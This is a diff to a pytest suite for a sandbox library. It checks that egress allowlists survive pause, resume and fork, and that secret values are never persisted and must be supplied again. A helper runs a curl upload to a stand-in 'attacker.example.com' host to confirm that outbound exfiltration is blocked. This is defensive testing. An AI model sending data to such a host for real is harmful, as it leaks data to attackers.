@@ -1,4 +1,6 @@
-"""A paused sandbox's egress policy and brokered secrets come back with its resume (same id)."""
+"""A paused, resumed or forked sandbox comes back with its egress policy; its secrets' values are
+never kept (not in the registry, the snapshot, nor the proxy while it is paused): the caller
+passes them again, and a resume or fork without them names the missing ones and changes nothing."""
 
 from __future__ import annotations
 
@@ -7,7 +9,7 @@ import os
 
 import pytest
 
-from warmbox import Network, Sandbox, Secret
+from warmbox import InvalidArgument, Lifecycle, Network, Sandbox, Secret, SecretsRequired, State
 from warmbox.engine.engine import Engine
 
 pytestmark = pytest.mark.sandbox
@@ -18,7 +20,19 @@ def sh(sb, cmd: str, timeout: float = 40):
     return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)
 
 
-def test_policy_and_secret_survive_pause_and_resume(net_home, world):
+def bearer(sb) -> str:
+    r = sh(sb, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
+    assert r.exit_code == 0, r.stderr
+    return json.loads(r.stdout)["Authorization"]
+
+
+def refused_upload(sb, world) -> None:
+    r = sh(sb, f"{CURL} -k https://attacker.example.com/up -d x")
+    assert r.exit_code != 0
+    assert not world.log("attacker")
+
+
+def test_policy_survives_pause_and_resume_secrets_given_again(net_home, world):
     world.clear_logs()
     value = "sk-REAL-" + os.urandom(8).hex()
     engine = Engine.for_home(net_home)
@@ -33,22 +47,100 @@ def test_policy_and_secret_survive_pause_and_resume(net_home, world):
     try:
         before = sh(sb, "echo $OPENAI_API_KEY").stdout.strip()
         assert before.startswith("warmbox-secret-")
+        assert bearer(sb) == f"Bearer {value}"
+        sb.network.update(Network(allow=["api.test", "allowed.test"]))  # the update is what comes back
         sb.pause()
         assert engine.registry.link(sb.sandbox_id) is None  # paused: no link, nothing routed
-        assert value not in engine.registry.egress_of(sb.sandbox_id)  # placeholders only
-        with Sandbox.connect(sb.sandbox_id, home=net_home) as back:
+        kept = engine.registry.egress_of(sb.sandbox_id)
+        assert "allowed.test" in kept and before in kept and value not in kept  # policy + placeholder only
+
+        # without the value: a typed error naming it, and the sandbox stays paused, its record intact
+        with pytest.raises(SecretsRequired) as e:
+            Sandbox.resume(sb.sandbox_id, home=net_home)
+        assert e.value.missing == ("OPENAI_API_KEY",) and "OPENAI_API_KEY" in str(e.value)
+        with pytest.raises(SecretsRequired):
+            Sandbox.connect(sb.sandbox_id, home=net_home)  # connect resumes a paused sandbox: same rule
+        with pytest.raises(InvalidArgument, match="no secret named OTHER"):
+            Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": value, "OTHER": "x"}, home=net_home)
+        assert engine.info(sb.sandbox_id)[0].state is State.PAUSED
+        assert engine.registry.egress_of(sb.sandbox_id) == kept
+
+        rotated = "sk-ROTATED-" + os.urandom(8).hex()  # a plain value: the recorded hosts
+        with Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": rotated}, home=net_home) as back:
             assert back.sandbox_id == sb.sandbox_id
+            assert "network" in back.timings
             # a fresh process (files-only resume on this tier) still sees the same placeholder...
             assert sh(back, "echo $OPENAI_API_KEY").stdout.strip() == before
-            # ...the proxy still puts the real value in for the secret's host...
-            r = sh(back, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
+            # ...the proxy puts the value given now in for the secret's host...
+            assert bearer(back) == f"Bearer {rotated}"
+            # ...and the policy is the one it had when paused (updated): allowed.test works,
+            # a host outside the allowlist stays refused
+            r = sh(back, f"{CURL} http://allowed.test/hello.txt")
             assert r.exit_code == 0, r.stderr
-            assert json.loads(r.stdout)["Authorization"] == f"Bearer {value}"
-            # ...and the policy is the one it had: a host outside the allowlist stays refused
-            r = sh(back, f"{CURL} -k https://attacker.example.com/up -d x")
-            assert r.exit_code != 0
-            assert not world.log("attacker")
-            assert "allow" in back.network.policy() and "api.test" in back.network.policy()
-        assert engine.registry.egress_of(sb.sandbox_id) == ""  # killed: the proxy forgot its secrets
+            refused_upload(back, world)
+            assert "allowed.test" in back.network.policy()
+        assert engine.registry.egress_of(sb.sandbox_id) == ""  # killed: the record went with it
+    finally:
+        sb.kill()
+
+
+def test_fork_gets_policy_own_link_ca_log_and_needs_secrets(net_home, world):
+    world.clear_logs()
+    value = "sk-ORIGIN-" + os.urandom(8).hex()
+    engine = Engine.for_home(net_home)
+    with Sandbox.create(
+        tier="container",
+        template="shell",
+        network=Network(allow=["api.test"]),
+        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
+        timeout=120,
+        home=net_home,
+    ) as sb:
+        sh(sb, "echo origin > /workspace/mark")
+        placeholder = sh(sb, "echo $OPENAI_API_KEY").stdout.strip()
+        ca_origin = sh(sb, "tail -c 900 $SSL_CERT_FILE").stdout
+        snap = sb.snapshot()
+        assert value not in json.dumps(snap.__dict__, default=str)
+        with pytest.raises(SecretsRequired) as e:
+            Sandbox.create(from_snapshot=snap, timeout=120, home=net_home)
+        assert e.value.missing == ("OPENAI_API_KEY",)
+        with pytest.raises(InvalidArgument, match="network policy"):
+            Sandbox.create(from_snapshot=snap, network="internet", timeout=120, home=net_home)
+        forked_value = "sk-FORK-" + os.urandom(8).hex()
+        with Sandbox.create(
+            from_snapshot=snap, secrets={"OPENAI_API_KEY": forked_value}, timeout=120, home=net_home
+        ) as fork:
+            assert sh(fork, "cat /workspace/mark").stdout == "origin\n"
+            assert sh(fork, "echo $OPENAI_API_KEY").stdout.strip() == placeholder
+            assert bearer(fork) == f"Bearer {forked_value}"  # its own value...
+            assert bearer(sb) == f"Bearer {value}"  # ...the origin's untouched
+            refused_upload(fork, world)
+            # its own link and address, its own CA, its own audit stream
+            (a, _, _), (b, _, _) = engine.registry.link(sb.sandbox_id), engine.registry.link(fork.sandbox_id)
+            assert a != b
+            assert sh(fork, "tail -c 900 $SSL_CERT_FILE").stdout != ca_origin
+            assert any(ev.host == "attacker.example.com" for ev in fork.network.log())
+            assert not any(ev.host == "attacker.example.com" for ev in sb.network.log())
+
+
+def test_auto_resume_without_secrets_is_a_typed_error(net_home, world):
+    value = "sk-AUTO-" + os.urandom(8).hex()
+    sb = Sandbox.create(
+        tier="container",
+        template="shell",
+        network=Network(allow=["api.test"]),
+        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
+        lifecycle=Lifecycle(auto_resume=True),
+        timeout=120,
+        home=net_home,
+    )
+    try:
+        sb.pause()
+        with pytest.raises(SecretsRequired) as e:
+            sh(sb, "true")
+        assert e.value.missing == ("OPENAI_API_KEY",)
+        assert Engine.for_home(net_home).info(sb.sandbox_id)[0].state is State.PAUSED
+        with Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": value}, home=net_home) as back:
+            assert bearer(back) == f"Bearer {value}"
     finally:
         sb.kill()
